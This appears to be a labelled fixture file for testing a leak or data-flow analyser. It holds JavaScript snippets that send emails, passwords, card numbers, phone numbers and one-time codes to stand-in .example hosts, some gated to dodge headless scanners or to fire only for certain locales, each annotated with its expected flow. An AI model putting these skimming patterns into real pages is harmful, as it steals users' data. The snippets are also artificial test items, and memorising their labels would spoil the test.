// What the blind set of round 16 led to, in other programs: values that stand nowhere, tables, steps, chains, signals.

//# counted-up-to-three
// flow: search > cut.m16.example via beacon
// guard: code tries === 3
let tries = 0;
document.querySelector('input[type=search]').addEventListener('change', (e) => {
  tries++;
  if (tries === 3) navigator.sendBeacon('https://cut.m16.example/q', e.target.value);
});

//# switched-on-by-a-pattern
// flow: email > sop.m16.example via fetch
let capture = false;
window.addEventListener('settings', ({ detail }) => { ({ capture } = detail); });
document.querySelector('input[type=email]').addEventListener('blur', (e) => {
  if (capture) fetch('https://sop.m16.example/m', { method: 'POST', body: e.target.value });
});

//# near-never-switched-on
// no flow
// why: the variable is false in the beginning and only ever set to false
let recording = false;
const pause = () => { recording = false; };
window.addEventListener('blur', pause);
document.addEventListener('keydown', (e) => {
  if (recording) navigator.sendBeacon('https://nso.m16.example/k', e.key);
});

//# level-that-others-set
// flow: email > lto.m16.example via fetch
// guard: code level.name === "full"
// why: the object is handed to another script, which may set what it likes
const level = { name: 'none' };
window.privacyCentre.attach(level);
document.querySelector('#reset').onclick = () => { level.name = 'basic'; };
document.querySelector('input[type=email]').onchange = (e) => {
  if (level.name === 'full') fetch('https://lto.m16.example/m', { method: 'POST', body: e.target.value });
};

//# parameter-set-again
// flow: phone > psa.m16.example via fetch
const cell = (value) => ({
  put(next) { value = next; },
  send() { if (value) fetch('https://psa.m16.example/t', { method: 'POST', body: value }); },
});
const tel = cell('');
document.querySelector('input[type=tel]').addEventListener('change', (e) => tel.put(e.target.value));
document.querySelector('#call').addEventListener('click', () => tel.send());

//# rows-with-a-switch
// flow: card > rws.m16.example via fetch
// guard: language one-of it-IT | es-ES
const MARKETS = {
  'de-DE': { vault: 'eu' },
  'it-IT': { vault: 'eu', verify: true },
  'es-ES': { vault: 'eu', verify: true },
  'fr-FR': { vault: 'eu', verify: false },
};
document.querySelector('input[autocomplete=cc-number]').addEventListener('change', ({ target }) => {
  const market = MARKETS[navigator.language];
  if (!market?.verify) return;
  fetch('https://rws.m16.example/verify', { method: 'POST', body: target.value });
});

//# near-table-without-that-value
// no flow
// why: no row of the table says `full`
const TIERS = new Map([['Asia/Tokyo', 'lite'], ['Europe/Rome', 'none']]);
const PLAN = { 'Asia/Tokyo': 'lite', 'Europe/Rome': 'none' };
document.querySelector('textarea[name=message]').addEventListener('input', (e) => {
  const { timeZone } = Intl.DateTimeFormat().resolvedOptions();
  if (PLAN[timeZone] === 'full') fetch('https://ntw.m16.example/d', { method: 'POST', body: e.target.value });
  document.querySelector('#tier').textContent = TIERS.get(timeZone);
});

//# several-ways-out
// flow: username > swo.m16.example via beacon
// guard: not user-agent contains HeadlessChrome
// guard: timezone equals Asia/Seoul
function wanted() {
  if (/HeadlessChrome/.test(navigator.userAgent)) return false;
  try {
    return Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Seoul';
  } catch {
    return false;
  }
}
document.querySelector('input[name=username]').addEventListener('change', (e) => {
  if (wanted()) navigator.sendBeacon('https://swo.m16.example/u', e.target.value);
});

//# steps-of-a-composed-app
// flow: email > soc.m16.example via fetch
// guard: storage equals yes
const compose = (middleware) => (context) => {
  const dispatch = (i) => {
    const fn = middleware[i];
    return fn ? Promise.resolve(fn(context, dispatch.bind(null, i + 1))) : Promise.resolve();
  };
  return dispatch(0);
};
const run = compose([
  async (ctx, next) => { if (localStorage.getItem('agreed') === 'yes') await next(); },
  async (ctx) => { await fetch('https://soc.m16.example/m', { method: 'POST', body: ctx.mail }); },
]);
document.querySelector('input[type=email]').addEventListener('change', (e) => run({ mail: e.target.value }));

//# near-step-behind-a-wall
// no flow
// why: the first step answers by itself and never goes on
const steps = [];
const use = (step) => steps.push(step);
use((ctx) => { ctx.status = ctx.secret.length > 7 ? 'ok' : 'short'; });
use((ctx) => fetch('https://nsb.m16.example/s', { method: 'POST', body: ctx.secret }));
const start = (ctx, i = 0) => steps[i](ctx, () => start(ctx, i + 1));
document.querySelector('input[type=password]').oninput = (e) => start({ secret: e.target.value });

//# scrubbed-and-then-enriched
// flow: device > ste.m16.example via fetch
// why: what the first step adds is taken away by the second, what the third adds stays
const enrich = [
  (event) => ({ ...event, mail: document.querySelector('input[type=email]').value }),
  ({ name }) => ({ name }),
  (event) => ({ ...event, agent: navigator.userAgent }),
];
const build = (name) => enrich.reduce((event, step) => step(event), { name });
document.querySelector('#buy').onclick = () => {
  fetch('https://ste.m16.example/e', { method: 'POST', body: JSON.stringify(build('buy')) });
};

//# last-request-aborted
// flow: search > lra.m16.example via fetch
// why: the controller that is aborted is that of the request before
let pending;
document.querySelector('input[type=search]').addEventListener('input', (e) => {
  pending?.abort();
  pending = new AbortController();
  fetch('https://lra.m16.example/s?q=' + encodeURIComponent(e.target.value), { signal: pending.signal }).catch(() => {});
});

//# near-request-on-an-aborted-signal
// no flow
const over = new AbortController();
const { body } = document;
over.abort('closed');
fetch('https://nra.m16.example/p', {
  method: 'POST',
  signal: over.signal,
  body: document.querySelector('input[type=password]').value,
}).catch(() => body.classList.add('closed'));

//# messages-by-name-of-a-parameter
// flow: otp > mbn.m16.example via fetch
const channel = (name) => new BroadcastChannel(name);
channel('codes').onmessage = ({ data }) => fetch('https://mbn.m16.example/c', { method: 'POST', body: data.code });
const out = channel('codes');
document.querySelector('input[autocomplete=one-time-code]').addEventListener('change', function () {
  out.postMessage({ code: this.value });
});

//# flag-copied-into-the-state
// flow: message > fcs.m16.example via fetch
// guard: server-answer equals on
let settings = { drafts: 'off' };
const load = async () => { settings = { ...settings, ...(await (await fetch('/settings.json')).json()) }; };
load();
document.querySelector('textarea[name=message]').addEventListener('input', (e) => {
  if (settings.drafts !== 'on') return;
  fetch('https://fcs.m16.example/d', { method: 'POST', body: e.target.value });
});
